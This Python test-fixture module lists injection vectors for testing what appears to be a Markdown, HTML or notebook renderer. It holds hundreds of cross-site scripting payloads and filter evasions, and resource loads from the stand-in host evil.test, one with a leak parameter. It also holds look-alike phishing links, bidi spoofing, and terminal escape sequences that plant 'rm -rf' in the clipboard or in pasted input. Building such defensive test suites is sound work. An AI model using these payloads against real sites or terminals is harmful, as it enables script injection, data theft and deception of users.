# ruff: noqa: E501 - a vector stands on one line
"""Texts that try to run a script, load something, or fool a reader, each with a sentinel.

A script that runs calls ``glmTripped``; whatever is loaded comes from ``EVIL``, an address that the
test puts in its place and listens at.
"""

from __future__ import annotations

from itertools import product

EVIL = "http://evil.test"
"""Replaced by the address of a listening server."""
TRIP = "glmTripped(1)"

HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerrawupdate", "ontoggle",
    "onanimationstart", "onbegin", "onstart", "onpageshow", "onwheel", "onscrollend", "onbeforematch",
)  # fmt: skip
ELEMENTS = (
    "img src=x", "svg", "body", "iframe", "video src=x", "audio src=x autoplay", "details open",
    "input autofocus", "select autofocus", "marquee", "object data=x", "math", "a href=x",
    "div style='animation:x 1s'",
)  # fmt: skip
TAGS = tuple(f"<{element} {handler}={TRIP}>" for element, handler in product(ELEMENTS, HANDLERS))

RAW_HTML = (
    f"<script>{TRIP}</script>",
    f"<SCRIPT SRC={EVIL}/a.js></SCRIPT>",
    f"<script\x0c>{TRIP}</script>",
    f"<script/x>{TRIP}</script >",
    f"<scr<script>ipt>{TRIP}</scr</script>ipt>",
    f"<<script>{TRIP}//<</script>",
    f"<script>{TRIP}",
    f"<script type=module>import '{EVIL}/m.js'</script>",
    f"<img/src=x/onerror={TRIP}>",
    f"<img src=x onerror\x0b={TRIP}>",
    f"<img src='x' onerror='{TRIP}'//>",
    f'<img src="x` `<script>{TRIP}</script>"` `>',
    f"<img src=x:x onerror\u00a0={TRIP}>",
    f"< img src=x onerror={TRIP}>",
    f"<\x00img src=x onerror={TRIP}>",
    f"<img \nsrc=x\nonerror\n=\n{TRIP}>",
    f"<svg><script>{TRIP}</script></svg>",
    f"<svg/onload={TRIP}>",
    f"<svg><animate onbegin={TRIP} attributeName=x dur=1s>",
    f"<svg><use href='{EVIL}/u.svg#x'/></svg>",
    f"<svg><image href={EVIL}/i.png></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{TRIP}</script>'></foreignObject></svg>",
    f"<math><mi//xlink:href='javascript:{TRIP}'>click</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={TRIP}></style></mglyph></table>",
    f"<iframe srcdoc='<script>parent.{TRIP}</script>'></iframe>",
    f"<iframe src='javascript:parent.{TRIP}'></iframe>",
    f"<embed src='javascript:{TRIP}'>",
    f"<object data='javascript:{TRIP}'></object>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{TRIP}'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<template><img src=x onerror={TRIP}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={TRIP}>'></noscript>",
    f"<textarea><img title='</textarea><img src=x onerror={TRIP}>'>",
    f"<title><img title='</title><img src=x onerror={TRIP}>'>",
    f"<style><img title='</style><img src=x onerror={TRIP}>'>",
    f"<xmp><img title='</xmp><img src=x onerror={TRIP}>'>",
    f"<!--><img src=x onerror={TRIP}>-->",
    f"<!-- --!><img src=x onerror={TRIP}>-->",
    f"<![CDATA[><img src=x onerror={TRIP}>]]>",
    f"<?xml ?><img src=x onerror={TRIP}>",
    f"<!DOCTYPE x [<!ENTITY e '<img src=x onerror={TRIP}>'>]>&e;",
    f"</p></div></details><img src=x onerror={TRIP}>",
    f"</style><img src=x onerror={TRIP}>",
    f"</code></pre><img src=x onerror={TRIP}>",
    f"</span></summary><script>{TRIP}</script>",
    f"&lt;img src=x onerror={TRIP}&gt;",
    f"&#60;img src=x onerror={TRIP}&#62;",
    f"&amp;lt;img src=x onerror={TRIP}&amp;gt;",
    f"\\<img src=x onerror={TRIP}\\>",
    f"\uff1cimg src=x onerror={TRIP}\uff1e",
    f"`<img src=x onerror={TRIP}>`",
    f"``<img src=x onerror={TRIP}>`",
    f"\\`<img src=x onerror={TRIP}>`",
    f"`\n\n<img src=x onerror={TRIP}>\n\n`",
    f"    <img src=x onerror={TRIP}>",
    f"- x\n\n      <img src=x onerror={TRIP}>",
    f"> <img src=x onerror={TRIP}>",
    f"| <img src=x onerror={TRIP}> |\n|---|\n| <svg onload={TRIP}> |",
    f"# <img src=x onerror={TRIP}>",
    f"**<img src=x onerror={TRIP}>**",
    f"~~<img src=x onerror={TRIP}>~~",
    f"```\n```\n<img src=x onerror={TRIP}>",
    f"```html\n</code></pre><img src=x onerror={TRIP}>\n```",
    f"````\n```\n<img src=x onerror={TRIP}>\n````",
    f"``` `<img src=x onerror={TRIP}>`",
    f"```\"onmouseover={TRIP} x=\"\ncode\n```",
    f"```<img src=x onerror={TRIP}>\ncode\n```",
    f"~~~ x' onclick={TRIP} y='\ncode\n~~~",
    f"<custom-element onclick={TRIP}>x</custom-element>",
    f"<div id=glm class=glm onclick={TRIP}>",
    f"<form action={EVIL}/f><input type=submit value=Continue></form>",
    f"<form><button formaction='javascript:{TRIP}'>Continue</button></form>",
    f"<input type=image src={EVIL}/i formaction='javascript:{TRIP}'>",
    "<input type=password placeholder='Your API key'>",
    f"<isindex action='javascript:{TRIP}'>",
    f"<keygen autofocus onfocus={TRIP}>",
    f"<portal src={EVIL}/p>",
    f"<dialog open onclose={TRIP}>x</dialog>",
    f"<a href='javascript:{TRIP}'>x</a>",
    f"<a href='java\nscript:{TRIP}'>x</a>",
    f"<area href='javascript:{TRIP}' shape=default>",
    f"<a ping={EVIL}/ping href=https://ok.example>x</a>",
)  # fmt: skip

REMOTE = (
    f"![x]({EVIL}/1.png)",
    f"![x](<{EVIL}/2.png>)",
    f"![x]({EVIL}/3.png \"t\")",
    f"![x][r1]\n\n[r1]: {EVIL}/4.png",
    f"![r2]\n\n[r2]: {EVIL}/5.png",
    f"![r3][]\n\n[r3]: {EVIL}/6.png 't'",
    f"[![x]({EVIL}/7.png)]({EVIL}/7)",
    f"![![x]({EVIL}/8.png)]({EVIL}/9.png)",
    f"!\\[x]({EVIL}/10.png)",
    f"\\![x]({EVIL}/11.png)",
    f"![x](//{EVIL[7:]}/12.png)",
    f"![x](\\\\{EVIL[7:]}\\13.png)",
    f"![x](http:{EVIL[5:]}/14.png)",
    f"![x]({EVIL}/15.png?leak={{x}})",
    f"<img src={EVIL}/16.png>",
    f"<img srcset='{EVIL}/17.png 1x'>",
    f"<picture><source srcset={EVIL}/18.png><img></picture>",
    f"<video poster={EVIL}/19.png>",
    f"<audio src={EVIL}/20 autoplay>",
    f"<track src={EVIL}/21>",
    f"<table background={EVIL}/22.png><tr><td background={EVIL}/23.png>x</table>",
    f"<body background={EVIL}/24.png>",
    f"<input type=image src={EVIL}/25>",
    f"<object data={EVIL}/26></object><embed src={EVIL}/27><iframe src={EVIL}/28></iframe>",
    f"<svg><filter><feImage href={EVIL}/29></filter></svg>",
    f"<link rel=icon href={EVIL}/30><link rel=preload as=image href={EVIL}/31>",
    f"| ![x]({EVIL}/32.png) |\n|---|",
    f"- ![x]({EVIL}/33.png)",
    f"> ![x]({EVIL}/34.png)",
    f"# ![x]({EVIL}/35.png)",
    f"**![x]({EVIL}/36.png)**",
    f"![x\n]({EVIL}/37.png)",
    f"![x](\n{EVIL}/38.png\n)",
    f"![&#93;]({EVIL}/39.png)",
)  # fmt: skip

STYLE = (
    "<style>*{display:none!important}</style>",
    f"<style>@import '{EVIL}/s1.css';</style>",
    f"<style>.jp-Cell{{background:url({EVIL}/s2.png)}}</style>",
    f"<div style='background:url({EVIL}/s3.png)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session expired</div>",
    f"<div style='width:expression({TRIP})'>x</div>",
    f"<div style='behavior:url({EVIL}/s4.htc)'>x</div>",
    f"<div style='-moz-binding:url({EVIL}/s5.xml)'>x</div>",
    f"<p style=\"list-style-image:url('{EVIL}/s6.png')\">x</p>",
    "| a |\n|:-:\" style=\"position:fixed\" x=\"|\n| b |",
    f"[x](https://ok.example \"\" style=\"background:url({EVIL}/s7.png)\")",
    f"[x](https://ok.example/\"style=\"position:fixed\"onclick=\"{TRIP})",
    f"[x](https://ok.example/'onclick='{TRIP})",
    f"[x](https://ok.example 'a\" onclick=\"{TRIP}')",
    f"[x](https://ok.example/&quot;onclick=&quot;{TRIP})",
    "{: style='position:fixed' onclick=glmTripped(1)}",
    f"# x {{#id onclick={TRIP} .class style=position:fixed}}",
)  # fmt: skip

SCHEMES = (
    f"javascript:{TRIP}", f"JavaScript:{TRIP}", f"javascript&#58;{TRIP}", f"javascript&colon;{TRIP}",
    f"&#106;avascript:{TRIP}", f"&#x6A&#x61&#x76&#x61script:{TRIP}", f"java&Tab;script:{TRIP}",
    f"java&NewLine;script:{TRIP}", f"\\javascript:{TRIP}", f"java\\script:{TRIP}",
    f"javascript\\:{TRIP}", f"%6Aavascript:{TRIP}", f"javascript%3A{TRIP}", f"\x01javascript:{TRIP}",
    f"\u00a0javascript:{TRIP}", f"javascript://ok.example/%0A{TRIP}", f"jav\u200bascript:{TRIP}",
    f"vbscript:{TRIP}", f"livescript:{TRIP}", f"view-source:javascript:{TRIP}",
    f"data:text/html,<script>{TRIP}</script>", "data:text/html;base64,PHNjcmlwdD5nbG1UcmlwcGVkKDEp",
    f"data:image/svg+xml,<svg/onload={TRIP}>", f"data&colon;text/html,<script>{TRIP}</script>",
    f"blob:{EVIL}/x", "file:///etc/passwd", "about:blank", f"filesystem:{EVIL}/x", "ms-word:x",
    "vscode:extension/x", "intent://x#Intent;end", "jar:x!/y", f"//{EVIL[7:]}/x", "/tree?x", "#x",
    "../api/kernels", "?reset", "mailto:/x", "https:", "https:\\\\evil.test", "http:evil.test",
)  # fmt: skip
SYNTAXES = (
    "[x]({})", "[x](<{}>)", "<{}>", "[x]({} 't')", "[x][s]\n\n[s]: {}", "[s]\n\n[s]: <{}> 't'",
    "![x]({})", "[![x]({})](https://ok.example)", "| [x]({}) |\n|---|", "> [x]({})",
    "[*x*]({})", "[x](\n{})", "[`x`]({})",
)  # fmt: skip
LINKS = tuple(syntax.format(scheme) for syntax, scheme in product(SYNTAXES, SCHEMES))

MATHS = tuple(
    form.format(tex)
    for form, tex in product(
        ("${}$", "\\({}\\)", "\\[{}\\]", "$${}$$", "$$\n{}\n$$", "\\begin{{align}}{}\\end{{align}}"),
        (
            f"\\href{{javascript:{TRIP}}}{{x}}",
            f"\\url{{javascript:{TRIP}}}",
            f"\\style{{background:url({EVIL}/m1.png)}}{{x}}",
            f"\\bbox[background:url({EVIL}/m2.png)]{{x}}",
            "\\bbox[position:fixed;inset:0]{x}",
            f"\\fcolorbox{{red;background:url({EVIL}/m3.png)}}{{white}}{{x}}",
            "\\class{jp-Cell}{x}", "\\cssId{x}{y}", f"\\data{{onclick={TRIP}}}{{x}}",
            f"\\includegraphics{{{EVIL}/m4.png}}", f"\\require{{{EVIL}/m5}}", "\\require{html}",
            f"\\unicode[x;background:url({EVIL}/m6.png)]{{65}}",
            f"\\text{{<img src=x onerror={TRIP}>}}", f"</span><img src=x onerror={TRIP}>",
            f"\\mmlToken{{mi}}[onclick={TRIP}]{{x}}", "\\def\\frac#1#2{gone}",
            "\\newcommand{\\alpha}{gone}", "\\DeclareMathOperator{\\sin}{gone}",
            f"\\csname href\\endcsname{{javascript:{TRIP}}}{{x}}", "\\let\\x=\\href",
            f"\\texttip{{x}}{{<img src=x onerror={TRIP}>}}", "\\rule{9999em}{9999em}",
            "\\hspace{-99em}x", "\\kern-99em\\raise 99em{x}", "\\Huge\\Huge x", "<", "a<b", "&lt;",
            f"`<img src=x onerror={TRIP}>`", "\\", "{", "}" * 50, "{" * 400 + "}" * 400,
        ),
    )
)  # fmt: skip

MISLEADING = (
    ("[https://bank.example](https://thief.example/x)", "thief.example"),
    ("[bank.com](https://thief.example)", "thief.example"),
    ("[www.bank.com/login](https://thief.example)", "thief.example"),
    ("[**https://bank.com**](https://thief.example)", "thief.example"),
    ("[`bank.com`](https://thief.example)", "thief.example"),
    ("[Bank (bank.com)](https://thief.example)", "thief.example"),
    ("[https://bank.com][b]\n\n[b]: https://thief.example", "thief.example"),
    ("[bank.com]\n\n[bank.com]: https://thief.example", "thief.example"),
    ("[https://bank\u3002com](https://thief.example)", "thief.example"),
    ("[bank\u200b.com](https://thief.example)", "thief.example"),
    ("[\uff42ank.com](https://thief.example)", "thief.example"),
    ("[bank.com.thief.example](https://other.example)", "other.example"),
    ("<https://bank.com@thief.example/>", "thief.example"),
    ("[x](https://bank.com@thief.example/)", "thief.example"),
    ("<https://\u0430pple.com/>", "xn--pple-43d.com"),
    ("[apple.com](https://\u0430pple.com/)", "xn--pple-43d.com"),
    ("![https://bank.com](https://thief.example/x.png)", "thief.example"),
    ("[https://bank.com&#47;x](https://thief.example)", "thief.example"),
    ("[&#98;ank.com](https://thief.example)", "thief.example"),
    ("[\\bank.com](https://thief.example)", "thief.example"),
    *(
        (f"[{label}](https://thief.example/x)", "thief.example")
        for label in (
            "allegro.pl",
            "spotify.cc",
            "docs.rs",
            "get.sh",
            "hack.md",
            "python.so",
            "x.ai",
            "acme.online",
            "acme.xyz",
            "acme.cloud",
            "acme.finance",
            "acme.zip",
            "acme.co.uk",
            "PayPal.COM",
            "paypal.com.",
            "login.bank.de/path",
            "http://intranet/login",
            "ftp://bank.example",
            "https://me@bank.com/",
            "me@bank.com",
            "10.0.0.10:8080",
            "\u4e2d\u6587.\u4e2d\u56fd",
            "xn--fiqs8s.xn--fiqs8s",
            "bank\ua4f8com",
            "bank\u2024com",
            "b\u3164ank.com",
            "www.anything",
            "github.com/x/README.md",
        )
    ),
    ("[b@bank.com](mailto:b@thief.example)", "thief.example"),
)
HONEST = (
    "[the manual](https://docs.example/x)",
    "[https://docs.example](https://docs.example/x?y#z)",
    "[docs.example](https://www.docs.example)",
    "[example.com](https://docs.example.com)",
    "<https://docs.example/a_(b)>",
    "[README.md](https://github.com/x) and [numpy.array](https://numpy.org)",
    "[v1.2.3](https://github.com/x) [3.14](https://pi.example)",
    "[mail](mailto:a@b.example)",
    "[a@b.example](mailto:a@b.example)",
    "[bank.com.](https://bank.com/) and [bank.com](https://bank.com./)",
    "[setup.py](https://pypi.example/x) [install.sh](https://x.example) [main.rs](https://x.example)",
    "[tame.rs](https://github.com/x/y/blob/main/src/tame.rs) [lib.so](https://x.example)",
    "[os.path](https://docs.example) [np.array](https://numpy.org) [Node.js](https://nodejs.org)",
    "[package.json](https://x.example) [data.csv](https://x.example) [e.g. this](https://x.example)",
    "[10.4](https://x.example) [v2.10.11](https://x.example) [file_name.py](https://x.example)",
)
_TURNS = (("\u202e", "\u202c"), ("\u202d", ""), ("\u2066", "\u2069"), ("\u2067", ""))
TURNED = (
    *(f"x {control}gnp.exe{close} y" for control, close in _TURNS),
    "[\u202emoc.knab//:sptth](https://thief.example)",
    "```\nif x: \u202e# admin \u2066 ok\n```",
)

VECTORS: tuple[str, ...] = (
    *TAGS, *RAW_HTML, *REMOTE, *STYLE, *LINKS, *MATHS, *(text for text, _ in MISLEADING), *TURNED,
)  # fmt: skip

TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.test\x07bank\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJm\x07", "\x1b[31mred", "\x1b[8mhidden\x1b[0m", "\x1b[1A\x1b[2Kover", "\x1bc",
    "\x1b[?1049h", "\x1b[6n", "\x1b]4;1;?\x07", "\x1bP+q544e\x1b\\", "\x1b_G\x1b\\", "\x1b^x\x1b\\",
    "\x9b31mred", "\x9d0;title\x9c", "\x90x\x9c", "\x84\x85\x8d", "a\rb", "a\x08b", "\x07", "\x0e\x0f",
    "\x7f", "\x00", "\x05", "\u202egnp.exe", "\u2066x", "\x1b%G", "\x1b(0", "\x1b]1337;File=:eA==\x07",
    "\x1b]777;notify;a;b\x1b\\", "\x1b[200~rm -rf\x1b[201~", "\x1b]50;x\x07", "\x1b#8", "\x1b[10000000@",
)  # fmt: skip
"""Bytes that some terminal obeys: titles, links, the clipboard, answers that it types, hiding."""
